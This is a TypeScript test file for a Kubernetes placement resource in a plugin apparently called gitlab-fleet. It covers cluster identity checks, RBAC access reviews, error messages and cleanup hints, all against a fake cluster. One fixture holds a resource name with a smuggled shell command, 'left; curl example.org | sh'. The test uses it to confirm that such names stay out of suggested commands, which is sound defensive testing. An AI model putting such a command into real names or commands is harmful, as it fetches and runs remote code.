import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "chai";
import type { Props } from "../../../../core/props";
import { lookAt } from "../../../../provider/kubernetes/reach";
import { FakeCluster } from "../../../helpers/fake-cluster";
import { type Plugin, startPlugin } from "../../../helpers/plugin";
import { rejection } from "../../../helpers/rejection";

const TYPE = "KubernetesPlace";
const RIGHTS = [
    { namespace: "ci", group: "", resource: "secrets" },
    { namespace: "ci", group: "apps", resource: "statefulsets" },
    { namespace: "jobs", group: "rbac.authorization.k8s.io", resource: "roles" },
];

describe("the cluster of a manager", () => {
    let cluster: FakeCluster;
    let plugin: Plugin;
    let folder: string;
    before(async () => {
        plugin = await startPlugin("gitlab-fleet");
        folder = mkdtempSync(join(tmpdir(), "kubeconfig-"));
    });
    beforeEach(async () => {
        cluster = await FakeCluster.start();
    });
    afterEach(() => cluster.close());
    after(async () => {
        await plugin.close();
        rmSync(folder, { recursive: true });
    });

    const inputs = (kubeconfig = cluster.kubeconfig()) => ({ kubeconfig, rights: RIGHTS, look: true });
    const why = async (kubeconfig?: string, context?: string, env: NodeJS.ProcessEnv = {}) =>
        (await lookAt({ kubeconfig, context }, RIGHTS, env)).why;

    it("is reached by an up: its namespaces are there, and what will be made may be made", async () => {
        const { state } = await plugin.create(TYPE, inputs());
        expect(Date.parse(state.reachedAt as string)).to.be.above(0);
        const reviews = cluster.asked.filter(({ path }) => path.endsWith("/selfsubjectaccessreviews"));
        const asked = reviews.map(({ body }) => (body.spec as { resourceAttributes: object }).resourceAttributes);
        const group = "rbac.authorization.k8s.io";
        for (const verb of ["get", "list", "watch", "create", "patch", "delete"])
            expect(asked).to.deep.include({ namespace: "jobs", verb, group, resource: "roles" });
        expect(asked).to.deep.include({ namespace: "ci", verb: "watch", group: "", resource: "pods" });
        expect(asked).to.not.deep.include({ namespace: "ci", verb: "create", group: "", resource: "pods" });
        expect(cluster.asked.filter(({ path }) => path.startsWith("/api/")).map(({ path }) => path)).to.have.members([
            "/api/v1/namespaces/ci",
            "/api/v1/namespaces/jobs",
            "/api/v1/namespaces/kube-system",
        ]);
    });

    /** A context of that name, which leads to the cluster. */
    const at = (context: string) => {
        const { contexts, ...known } = JSON.parse(cluster.kubeconfig());
        return { ...inputs(JSON.stringify({ ...known, contexts: [{ ...contexts[0], name: context }] })), context };
    };
    const uidsOf = (state: Props) => state.uids as Props;

    it("is the one of the last up, wherever somebody else's kubeconfig leads, unless another cluster is named", async () => {
        const { state } = await plugin.create(TYPE, inputs());
        expect(state.uids).to.deep.equal({ "kube-system": "one kube-system", ci: "one ci", jobs: "one jobs" });
        cluster.id = "two";
        expect((await plugin.diff(TYPE, "ci-01", state, inputs())).detailed).to.deep.equal({ reachedAt: "update" });
        const error = await rejection(plugin.update(TYPE, "ci-01", state, inputs()));
        expect(error.message)
            .to.contain("is another one than that of the last up (its namespace kube-system has another UID)")
            .and.contain('placement.kubernetes.cluster: "two kube-system"')
            .and.contain("Nothing was changed in GitLab");
        await plugin.read(TYPE, "ci-01", state, inputs());
        expect(plugin.logs.at(-1)!.message).to.contain("This refresh forgets what is on the other one.");
        const moved = await plugin.update(TYPE, "ci-01", state, { ...inputs(), cluster: "two kube-system" });
        expect(moved.state.uids).to.include({ "kube-system": "two kube-system" });
        const named = await rejection(plugin.create(TYPE, { ...inputs(), cluster: "one kube-system" }));
        expect(named.message).to.contain("is another one than placement.kubernetes.cluster names");
    });

    it("stays the same where a context is written down for the first time, or taken out: the kubernetes provider moves nothing then", async () => {
        const written = (await plugin.update(TYPE, "ci-01", (await plugin.create(TYPE, inputs())).state, at("a")))
            .state;
        expect(written.context).to.equal("a");
        const out = (await plugin.update(TYPE, "ci-01", written, inputs())).state;
        cluster.id = "two";
        for (const [before, after] of [
            [out, at("a")],
            [written, inputs()],
        ] as const) {
            const { message } = await rejection(plugin.update(TYPE, "ci-01", before, after));
            expect(message)
                .to.contain("is another one than that of the last up")
                .and.contain("write down that of the old cluster first");
        }
    });

    it("is another one where another context is written: to one that leads to the same the engine could not move anything", async () => {
        const { state } = await plugin.create(TYPE, at("a"));
        expect((await plugin.diff(TYPE, "ci-01", state, at("b"))).detailed).to.include({ context: "update" });
        const { message } = await rejection(plugin.update(TYPE, "ci-01", state, at("b")));
        expect(message)
            .to.contain('The context "b" leads to the same cluster as "a"')
            .and.contain("take placement.kubernetes.context out for one up")
            .and.contain("Nothing was changed in GitLab");
        const named = { ...at("b"), cluster: "one kube-system" };
        expect((await rejection(plugin.update(TYPE, "ci-01", state, named))).message).to.contain("the same cluster");
        cluster.id = "two";
        cluster.namespaces = ["ci", "jobs"];
        const moved = await plugin.update(
            TYPE,
            "ci-01",
            { ...state, uids: { ...uidsOf(state), old: "one old" } },
            at("b"),
        );
        // What the old cluster had is nothing that this one is known by.
        expect(moved.state.uids).to.deep.equal({ "kube-system": "two kube-system", ci: "two ci", jobs: "two jobs" });
    });

    it("is left alone where the state does not have it right: what is taken, and what is gone until a refresh has missed it", async () => {
        const { state } = await plugin.create(TYPE, inputs());
        const objects = [{ namespace: "ci", group: "", resource: "secrets", name: "it" }];
        const taken = { ...inputs(), objects, taken: ['secrets "it" in namespace ci (marked as "a/b/c")'] };
        expect((await plugin.diff(TYPE, "ci-01", state, taken)).detailed).to.deep.equal({ reachedAt: "update" });
        const theirs = await rejection(plugin.update(TYPE, "ci-01", state, taken));
        expect(theirs.message)
            .to.contain('there already exists what this stack has not made: secrets "it" in namespace ci (marked as')
            .and.contain("Nothing was changed in GitLab");
        const gone = { ...inputs(), objects, gone: ['secrets "it" in namespace ci'] };
        expect((await plugin.diff(TYPE, "ci-01", state, gone)).detailed).to.deep.equal({ reachedAt: "update" });
        const removed = await rejection(plugin.update(TYPE, "ci-01", state, gone));
        expect(removed.message)
            .to.contain('The cluster no longer has secrets "it" in namespace ci')
            .and.contain("pulumi up --refresh");
        const refreshed = (await plugin.read(TYPE, "ci-01", state, gone))!.state;
        expect(refreshed).to.deep.equal({ ...state, missing: true });
        // What the engine asks for its state may be of before the refresh.
        const { state: after } = await plugin.update(TYPE, "ci-01", refreshed, gone);
        expect(after).to.not.have.property("missing");
        for (const look of [true, false]) {
            const { detailed } = await plugin.diff(TYPE, "ci-01", refreshed, { ...inputs(), objects, look });
            expect(detailed).to.deep.equal({ reachedAt: "update" });
        }
        cluster.objects = { "/api/v1/namespaces/ci/secrets": [{ metadata: { name: "it", uid: "x" } }] };
        expect((await plugin.read(TYPE, "ci-01", state, gone))!.state).to.deep.equal(state);
    });

    it("is known by its own namespaces where this login does not see kube-system, and a namespace recreated is no other cluster", async () => {
        const { state } = await plugin.create(TYPE, inputs());
        const seen = state.uids as Record<string, string>;
        const anew = { ...state, uids: { ...seen, ci: "an older one" } };
        expect((await plugin.diff(TYPE, "ci-01", anew, inputs())).changes).to.equal(false);
        const blind = { ...state, uids: { ci: "one ci" } };
        cluster.id = "two";
        expect((await plugin.diff(TYPE, "ci-01", blind, inputs())).detailed).to.deep.equal({ reachedAt: "update" });
        cluster.showsNamespaces = false;
        expect((await plugin.diff(TYPE, "ci-01", state, inputs())).changes).to.equal(false);
    });

    it("is not listened to when it answers without end", async () => {
        const chunk = Buffer.alloc(1024 * 1024, "x");
        const server = createServer((_, response) => {
            const more = () => {
                while (!response.destroyed && response.write(chunk)) {}
            };
            response.on("drain", more);
            more();
        });
        const { port } = await new Promise<AddressInfo>((done) =>
            server.listen(0, "127.0.0.1", () => done(server.address() as AddressInfo)),
        );
        try {
            const kubeconfig = cluster.kubeconfig(undefined, { server: `http://127.0.0.1:${port}` });
            expect(await why(kubeconfig)).to.contain("cannot be reached (Response content exceeded max size)");
        } finally {
            server.closeAllConnections();
            server.close();
        }
    });

    it("is asked nothing by a preview, and by an up without a change looks once more", async () => {
        await plugin.create(TYPE, { ...inputs(), look: false }, { preview: true });
        const { state } = await plugin.create(TYPE, inputs());
        const before = cluster.asked.length;
        expect((await plugin.diff(TYPE, "ci-01", state, { ...inputs(), look: false })).changes).to.equal(false);
        expect(cluster.asked).to.have.lengthOf(before);
        expect((await plugin.diff(TYPE, "ci-01", state, inputs())).changes).to.equal(false);
        expect(cluster.asked.length).to.be.above(before);
        cluster.namespaces = ["ci"];
        expect((await plugin.diff(TYPE, "ci-01", state, inputs())).detailed).to.deep.equal({ reachedAt: "update" });
        const error = await rejection(plugin.update(TYPE, "ci-01", state, inputs()));
        expect(error.message)
            .to.contain(`has no namespace "jobs". Make it first`)
            .and.to.contain("Nothing was changed");
    });

    it("is asked once for all managers that are looked at together, and anew by whoever comes later", async () => {
        const { state } = await plugin.create(TYPE, inputs());
        const before = cluster.asked.length;
        await plugin.diff(TYPE, "ci-01", state, inputs());
        const questions = cluster.asked.length - before;
        await Promise.all(["ci-01", "ci-02", "ci-03"].map((name) => plugin.diff(TYPE, name, state, inputs())));
        expect(cluster.asked).to.have.lengthOf(before + 2 * questions);
        cluster.namespaces = ["ci"];
        expect((await plugin.diff(TYPE, "ci-01", state, inputs())).detailed).to.deep.equal({ reachedAt: "update" });
    });

    it("is refused with verb and object where something is forbidden, all of it at once", async () => {
        cluster.forbidden = ["patch secrets", "create roles"];
        cluster.showsNamespaces = false;
        expect(await why(cluster.kubeconfig())).to.contain(
            "forbids this login to patch secrets in namespace ci; create roles.rbac.authorization.k8s.io in namespace jobs.",
        );
    });

    it("tells all that a login may do in one answer for each namespace; what is not in it, or not all of it, is asked one by one", async () => {
        const reviews = () => cluster.asked.filter(({ path }) => path.endsWith("/selfsubjectaccessreviews")).length;
        const verbs = ["get", "list", "watch", "create", "patch", "delete"];
        const all = [{ verbs: ["*"], apiGroups: ["*"], resources: ["*"] }];
        cluster.rules = { resourceRules: all, incomplete: false };
        expect(await why(cluster.kubeconfig())).to.equal(undefined);
        expect(reviews()).to.equal(0);
        expect(cluster.asked.filter(({ path }) => path.endsWith("/selfsubjectrulesreviews"))).to.have.lengthOf(2);
        const named = { verbs, apiGroups: [""], resources: ["secrets"], resourceNames: ["other"] };
        const some = { verbs, apiGroups: ["apps", "rbac.authorization.k8s.io"], resources: ["statefulsets", "roles"] };
        cluster.rules = { resourceRules: [named, some] };
        cluster.forbidden = ["patch secrets"];
        expect(await why(cluster.kubeconfig())).to.contain("forbids this login to patch secrets in namespace ci.");
        // Six verbs of Secrets, three of pods.
        expect(reviews()).to.equal(9);
        cluster.rules = { resourceRules: all, incomplete: true };
        expect(await why(cluster.kubeconfig())).to.contain("forbids this login to patch secrets in namespace ci.");
    });

    it("is looked at once more when its manager goes: what an up that was killed has left there is named, and stays", async () => {
        const { state } = await plugin.create(TYPE, inputs());
        const metadata = (name: string, owner: string) => ({ name, annotations: { "gitlab-fleet.com/owner": owner } });
        cluster.objects = {
            "/apis/apps/v1/namespaces/ci/statefulsets": [
                { metadata: metadata("left", "demo/test/it") },
                // It would be pasted into a shell.
                { metadata: metadata("left; curl example.org | sh", "demo/test/it") },
                { metadata: metadata("of-others", "other/prod/ci-01") },
                { metadata: { name: "of-nobody" } },
            ],
        };
        plugin.logs.length = 0;
        await plugin.delete(TYPE, "ci-01", state);
        expect(plugin.logs.map(({ message }) => message)).to.deep.equal([
            "Of this manager there is still in namespace ci: statefulsets left. The state does not know it: an up that was killed may have " +
                "made it. If nobody needs it: kubectl delete -n ci statefulsets left",
        ]);
        expect(cluster.asked.filter(({ method }) => method === "DELETE")).to.deep.equal([]);
        await cluster.close();
        await plugin.delete(TYPE, "ci-01", state);
        cluster = await FakeCluster.start();
    });
});
